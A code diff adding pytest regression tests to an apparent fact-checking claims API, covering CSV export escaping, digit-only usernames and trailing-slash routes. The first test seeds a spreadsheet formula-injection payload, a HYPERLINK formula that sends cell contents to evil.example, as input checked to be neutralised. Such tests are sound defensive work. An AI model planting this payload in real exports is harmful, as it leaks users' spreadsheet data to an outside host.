@@ -475,3 +475,43 @@ def test_a_client_may_ask_for_claimreview_as_json_ld(api, editor_api):
         response = api.get(path, HTTP_ACCEPT="application/ld+json")
         assert response.status_code == 200, path
         assert response["Content-Type"].startswith("application/ld+json"), path
+
+
+def test_the_csv_export_never_hands_a_spreadsheet_a_formula(api):
+    # A claim opening with "=HYPERLINK(…)" ran as a formula when the export was opened.
+    ClaimFactory(text='=HYPERLINK("https://evil.example/?"&A1,"Click") officials said so.')
+    ClaimFactory(text="-5 degrees, the forecasters said.", speaker="@weather")
+    ClaimFactory(text="+1 more, he said.", speaker="\tTab")
+    response = api.get("/api/v1/claims/export.csv?ordering=id")
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = [cell for row in rows[1:] for cell in row if cell]
+    assert not [c for c in cells if c[0] in "=+-@\t\r" and not c.lstrip("-").isdigit()]
+    texts = sorted(row[6] for row in rows[1:])
+    assert "'=HYPERLINK(" in texts[0] or "'=HYPERLINK(" in "".join(texts)
+    assert "'-5 degrees, the forecasters said." in texts  # kept, readable, but inert
+
+
+def test_a_username_made_of_digits_is_that_user(editor_api, reviewer):
+    # "2" was read as user id 2: the claim went to someone else.
+    named = UserFactory(username=str(reviewer.pk), role="reviewer")
+    claim = ClaimFactory()
+    response = editor_api.post(
+        f"/api/v1/claims/{claim.pk}/assign/", {"assignee": str(reviewer.pk)}, format="json"
+    )
+    assert response.status_code == 200 and response.data["assignee"] == named.username
+    Claim.objects.filter(pk=claim.pk).update(assignee=named)
+    listed = editor_api.get(f"/api/v1/claims/?assignee={named.username}").json()["results"]
+    assert [c["id"] for c in listed] == [claim.pk]
+    other = ClaimFactory(assignee=reviewer)
+    by_id = editor_api.post(
+        f"/api/v1/claims/{other.pk}/assign/", {"assignee": str(named.pk)}, format="json"
+    )
+    assert by_id.data["assignee"] == named.username  # an id still works when no name matches
+
+
+@pytest.mark.parametrize("path", ["/api/v1/claims/next", "/api/v1/auth/token", "/api/v1/stats"])
+def test_a_path_without_its_trailing_slash_is_answered(api, path):
+    # POST claims/next gave a 500 (DEBUG) or a redirect that dropped the body.
+    method = api.get if path.endswith("stats") else api.post
+    response = method(path, {}, format="json")
+    assert response.status_code in (200, 204, 400), response.status_code
